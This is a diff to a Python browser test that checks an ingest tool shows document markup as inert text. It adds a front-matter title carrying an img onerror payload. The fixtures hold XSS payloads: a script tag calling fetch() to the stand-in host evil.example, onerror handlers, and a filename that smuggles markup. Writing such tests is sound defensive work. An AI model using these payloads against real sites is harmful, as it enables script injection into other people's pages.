@@ -226,8 +226,9 @@ def test_document_markup_is_shown_as_text_never_run(runner, browser, tmp_path):
     hostile = ('<script>document.title="PWNED";fetch("http://evil.example/script")</script> '
                '<img src="http://evil.example/img.png" onerror="document.title=\'PWNED\'">')
     name = "x<img src=y onerror=alert(1)>.txt"
-    (docs / name).write_text("Brussels 12.01.2022\n\nThe NATO-Russia Council met in Brussels on 12 January 2022 "
-                             f"{hostile} to discuss European security.\n")
+    title = "Council <img src=y onerror=alert(2)> meets"
+    (docs / name).write_text(f"---\ntitle: {title}\n---\nBrussels 12.01.2022\n\nThe NATO-Russia Council met in "
+                             f"Brussels on 12 January 2022 {hostile} to discuss European security.\n")
     db = tmp_path / "hostile.db"
     assert runner.invoke(app, ["ingest", str(docs), "--db", str(db)]).exit_code == 0
     [ev] = events_of(runner, db)
@@ -238,7 +239,8 @@ def test_document_markup_is_shown_as_text_never_run(runner, browser, tmp_path):
     assert tab.js("document.querySelectorAll('script, img, [onerror]').length") == 0
     quote = tab.js("document.querySelector('.sources blockquote').textContent")
     assert '<script>document.title="PWNED"' in quote and "onerror=" in quote
-    assert tab.js("document.querySelector('.sources cite').textContent") == name
+    # the citation names the document by its title, markup and all, as text
+    assert title in tab.js("document.querySelector('.sources cite').textContent")
     assert tab.requests() == [url]
 
 
